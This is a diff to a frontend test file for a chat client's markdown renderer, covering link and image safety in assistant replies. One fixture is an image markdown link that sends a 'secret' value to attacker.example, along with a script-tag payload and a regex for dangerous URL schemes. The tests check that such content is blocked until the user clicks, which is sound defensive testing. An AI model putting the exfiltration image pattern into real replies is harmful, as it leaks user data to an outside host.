@@ -1,7 +1,7 @@
-import { render, screen, waitFor } from '@testing-library/react';
+import { fireEvent, render, screen, waitFor, within } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { readEvents } from '#client/features/chat/api/chat-stream.ts';
+import { readEvents } from '#client/lib/event-stream.ts';
 import MarkdownContent from '#client/features/chat/markdown-content.tsx';
 import { i18n } from '#client/lib/i18n.ts';
 
@@ -49,6 +49,9 @@ describe('assistant reply rendering (spec 01-core §9 link and image safety)', (
     ).toBe(true);
     const clickMe = [...container.querySelectorAll('a')].find((a) => a.textContent === 'click me');
     expect(clickMe).toBeUndefined();
+    // Remote images wait for the user (issue #15 item 8); shown, only the safe addresses remain.
+    expect(container.querySelectorAll('img')).toHaveLength(0);
+    fireEvent.click(screen.getByRole('button', { name: 'Bild anzeigen' }));
     const images = [...container.querySelectorAll('img')].map((img) => img.getAttribute('src'));
     expect(images).toEqual(['https://example.com/a.png']);
     // Raw HTML is never turned into elements: its tags are dropped.
@@ -89,6 +92,60 @@ const MORE_HOSTILE = [
   '```html\n<script>alert(1)</script>\n```',
 ].join('\n\n');
 
+describe('remote images in replies (issue #15 item 8)', () => {
+  const reply = (secret: string) =>
+    `Hier: ![Diagramm](https://attacker.example/?q=${secret}) und ![](https://cdn.example/b.png) ` +
+    `und ![Logo](${window.location.origin}/logo.svg)`;
+
+  it("loads no remote image until the user asks; one click shows that reply's images", async () => {
+    const user = userEvent.setup();
+    render(
+      <>
+        <section aria-label="erste">
+          <MarkdownContent text={reply('geheim-1')} />
+        </section>
+        <section aria-label="zweite">
+          <MarkdownContent text={reply('geheim-2')} />
+        </section>
+      </>,
+    );
+    const firstReply = screen.getByRole('region', { name: 'erste' });
+    const secondReply = screen.getByRole('region', { name: 'zweite' });
+    const first = within(firstReply);
+    const second = within(secondReply);
+    // (An image without alt text is presentational: no img role to find it by.)
+    const sources = (reply: HTMLElement) =>
+      [...reply.querySelectorAll('img')].map((img) => img.getAttribute('src'));
+
+    // The same-origin image loads as before; the remote ones are placeholders naming their host.
+    expect(sources(firstReply)).toEqual([`${window.location.origin}/logo.svg`]);
+    expect(first.getByText(/Diagramm · Externes Bild von attacker\.example/)).toBeTruthy();
+    expect(first.getByText('Externes Bild von cdn.example')).toBeTruthy();
+
+    await user.click(first.getAllByRole('button', { name: 'Bild anzeigen' })[0]!);
+    expect(sources(firstReply)).toEqual([
+      'https://attacker.example/?q=geheim-1',
+      'https://cdn.example/b.png',
+      `${window.location.origin}/logo.svg`,
+    ]);
+    expect(first.queryByRole('button', { name: 'Bild anzeigen' })).toBeNull();
+    // The other reply still waits.
+    expect(sources(secondReply)).toEqual([`${window.location.origin}/logo.svg`]);
+    expect(second.getAllByRole('button', { name: 'Bild anzeigen' })).toHaveLength(2);
+  });
+
+  it('says it in the interface language', async () => {
+    await i18n.changeLanguage('en');
+    try {
+      render(<MarkdownContent text="![](https://img.example/x.png)" />);
+      expect(screen.getByText('External image from img.example')).toBeTruthy();
+      expect(screen.getByRole('button', { name: 'Show image' })).toBeTruthy();
+    } finally {
+      await i18n.changeLanguage('de');
+    }
+  });
+});
+
 describe('more hostile model output (spec 01-core §9)', () => {
   it('allows only the safe link protocols and never executable markup', () => {
     const { container } = render(<MarkdownContent text={MORE_HOSTILE} />);
@@ -107,6 +164,8 @@ describe('more hostile model output (spec 01-core §9)', () => {
       [...element.attributes].map((attribute) => `${attribute.name}=${attribute.value}`),
     );
     expect(attributes.filter((text) => /javascript:|vbscript:|data:|^on/i.test(text))).toEqual([]);
+    expect(container.querySelectorAll('img')).toHaveLength(0);
+    fireEvent.click(screen.getByRole('button', { name: 'Bild anzeigen' }));
     expect([...container.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
       'http://example.com/b.png',
     ]);
